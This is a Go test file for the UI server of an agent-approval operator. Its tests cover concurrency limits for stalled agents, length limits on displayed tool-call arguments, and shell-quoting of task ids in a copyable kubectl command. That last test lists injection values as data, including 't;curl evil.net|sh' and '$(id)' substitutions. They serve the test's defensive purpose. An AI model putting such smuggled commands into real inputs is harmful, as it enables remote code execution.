// Copyright The a2a-operator Authors.
// SPDX-License-Identifier: Apache-2.0

package uiserver

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/go-logr/logr"

	"github.com/a2a-operator/a2a-operator/internal/a2a/client"
	"github.com/a2a-operator/a2a-operator/internal/a2a/client/inputform"
	"github.com/a2a-operator/a2a-operator/internal/registry/access"
)

// TestAgentsThatStallDoNotStopOthers opens many links to agents that do not answer, by many people to agents of one namespace and by one
// person to agents of many namespaces. Only some of them are called at a time, and the link of another person and namespace is served.
func TestAgentsThatStallDoNotStopOthers(t *testing.T) {
	const links = 200
	for name, of := range map[string]func(i int) (person, namespace string){
		"one namespace": func(i int) (person, namespace string) { return fmt.Sprintf("person-%d", i), "bad" },
		"one person":    func(i int) (person, namespace string) { return "person", fmt.Sprintf("bad-%d", i) },
	} {
		t.Run(name, func(t *testing.T) {
			called := make(chan struct{}, links)
			s := &Server{options: Options{Log: logr.Discard(), Connect: func(ctx context.Context, p *AsPerson) (*client.Client, error) {
				if p.Namespace == "good" {
					return nil, ErrNoAgent
				}
				called <- struct{}{}
				<-ctx.Done()
				return nil, ctx.Err()
			}}}
			mux := http.NewServeMux()
			mux.Handle("GET /approvals/{namespace}/{name}/{task}", s.inTurn()(s.showRequest))
			ctx, cancel := context.WithCancel(t.Context())
			var group sync.WaitGroup
			open := func(ctx context.Context, person, namespace string) int {
				w := httptest.NewRecorder()
				ctx = withReader(ctx, access.Caller{Username: person})
				mux.ServeHTTP(w, httptest.NewRequestWithContext(ctx, http.MethodGet, "/approvals/"+namespace+"/agent/t?owner=o", http.NoBody))
				return w.Code
			}
			for i := range links {
				group.Go(func() {
					person, namespace := of(i)
					open(ctx, person, namespace)
				})
			}
			for range decisionSlotsOfOne {
				<-called
			}
			if got := open(t.Context(), "another person", "good"); got != http.StatusForbidden {
				t.Errorf("the link of another person and namespace gets %d", got)
			}
			if n := len(called); n > 0 {
				t.Errorf("%d agents more than %d are called at a time", n, decisionSlotsOfOne)
			}
			cancel()
			group.Wait()
		})
	}
}

// TestLongCallsAreNotShown checks what the page shows of the calls of an agent, which chooses their number and arguments.
func TestLongCallsAreNotShown(t *testing.T) {
	call := func(arguments string) inputform.Call { return inputform.Call{Arguments: []byte(arguments)} }
	for name, tt := range map[string]struct {
		calls     []inputform.Call
		isTooLong bool
	}{
		"few":               {[]inputform.Call{call(`{"path":"/tmp"}`)}, false},
		"a large text":      {[]inputform.Call{call(`{"text":"` + strings.Repeat("x", maxArguments/2) + `"}`)}, false},
		"two large texts":   {[]inputform.Call{call(`"` + strings.Repeat("x", maxArguments/2) + `"`), call(`"` + strings.Repeat("x", maxArguments/2) + `"`)}, true},
		"many calls":        {make([]inputform.Call, maxCalls+1), true},
		"many small values": {[]inputform.Call{call(`{"data":[` + strings.Repeat(`{"":0},`, maxWeight/400) + `0]}`)}, true},
	} {
		if got := isTooLong(&inputform.Form{Calls: tt.calls}); got != tt.isTooLong {
			t.Errorf("%s: isTooLong() = %t", name, got)
		}
	}
}

// TestTheCommandQuotesTheTask checks the command that a person copies. Whoever wrote the link chose the id of the task.
func TestTheCommandQuotesTheTask(t *testing.T) {
	for task, want := range map[string]string{
		"01a2281f-c46d":      "kubectl a2a approve team/cleaner 01a2281f-c46d",
		"t;curl evil.net|sh": "kubectl a2a approve team/cleaner 't;curl evil.net|sh'",
		"$(id)'`id`":         `kubectl a2a approve team/cleaner '$(id)'\''` + "`id`'",
		"-f x":               "kubectl a2a approve team/cleaner -- '-f x'",
	} {
		r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/", http.NoBody)
		r.SetPathValue("namespace", "team")
		r.SetPathValue("name", "cleaner")
		r.SetPathValue("task", task)
		if got := (&Server{}).approval(r, "").Command; got != want {
			t.Errorf("the command for the task %q is %s, want %s", task, got, want)
		}
	}
}
